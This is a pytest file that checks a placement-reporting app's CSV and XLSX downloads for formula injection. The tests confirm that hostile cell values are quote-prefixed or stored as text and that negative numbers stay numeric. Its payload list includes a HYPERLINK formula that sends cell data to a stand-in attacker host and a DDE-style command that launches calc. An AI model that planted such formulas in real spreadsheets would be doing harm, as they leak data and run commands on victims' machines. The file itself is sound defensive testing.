"""CSV and XLSX downloads never carry a live formula (CSV/formula injection)."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from placement.extensions import db
from placement.services.reporting import downloads, land
from tests.conftest import create_facility, create_stay, create_youth

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab voran",
    "\rWagenrücklauf voran",
]


def read_csv(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


# --- the cells themselves -------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_prefixes_formula_text_with_a_quote(text):
    rows = read_csv(downloads.to_csv((["Einrichtung", "Belegt"], [[text, 3]])))
    assert rows[1] == [f"'{text}", "3"]


def test_csv_keeps_numbers_and_harmless_text():
    table = (["Name", "a", "b", "c"], [["Haus - Nord", -3, -1.5, None], ["ok", 0, 2.25, 7]])
    rows = read_csv(downloads.to_csv(table))
    assert rows[1] == ["Haus - Nord", "-3", "-1,5", ""]  # a dash inside is no formula
    assert rows[2] == ["ok", "0", "2,25", "7"]


def test_csv_neutralises_the_header_row_too():
    rows = read_csv(downloads.to_csv((["=1+1"], [])))
    assert rows[0] == ["'=1+1"]


def xlsx_sheet(body: bytes):
    return load_workbook(io.BytesIO(body)).active


def test_xlsx_writes_formula_text_as_text_cells():
    table = (["Einrichtung", "Zahl"], [[text, -4] for text in HOSTILE] + [["normal", -0.5]])
    body = downloads.to_xlsx(table, "Titel", "Untertitel")
    sheet = xlsx_sheet(body)
    values = [
        (row[0].value, row[0].data_type, row[1].value, row[1].data_type)
        for row in sheet.iter_rows(min_row=4)
    ]
    for (value, kind, number, number_kind), text in zip(values, HOSTILE, strict=False):
        assert value == text.replace("\r", "\n")  # XML reads a lone CR back as LF
        assert kind == "s"
        assert (number, number_kind) == (-4, "n")  # negative numbers stay numbers
    assert values[-1] == ("normal", "s", -0.5, "n")
    assert sheet["A4"].quotePrefix  # Excel keeps it text even when the cell is edited
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere


def test_land_csv_neutralises_its_cells():
    text = land.land_csv("=01.02.2026", {})
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[1][0] == "'=01.02.2026"
    assert rows[-1][1] == "Gesamt"
    assert rows[-1][2:] == ["0"] * (len(rows[-1]) - 2)  # counts stay numbers


# --- the downloads as served, on both databases ----------------------------------------------


@pytest.fixture
def hostile_facility(app):
    with app.app_context():
        house = create_facility(licensed=2, name=HOSTILE[0], planning_area="@Mitte")
        create_stay(create_youth(), house, "2026-01-05 10:00")
        db.session.commit()


@pytest.mark.parametrize("report", ["stichtag", "monthly"])
def test_served_csv_reads_back_neutralised(client, login, hostile_facility, report):
    login("department_head")
    response = client.get(f"/reports/{report}?format=csv")
    assert response.status_code == 200
    rows = read_csv(response.data)
    names = [row[0] for row in rows]
    assert f"'{HOSTILE[0]}" in names
    assert HOSTILE[0] not in names
    row = rows[names.index(f"'{HOSTILE[0]}")]
    assert "'@Mitte" in row


@pytest.mark.parametrize("report", ["stichtag", "monthly"])
def test_served_xlsx_reads_back_as_text(client, login, hostile_facility, report):
    login("department_head")
    response = client.get(f"/reports/{report}?format=xlsx")
    assert response.status_code == 200
    sheet = xlsx_sheet(response.data)
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == HOSTILE[0]]
    assert cells, "the facility's name is in the workbook"
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
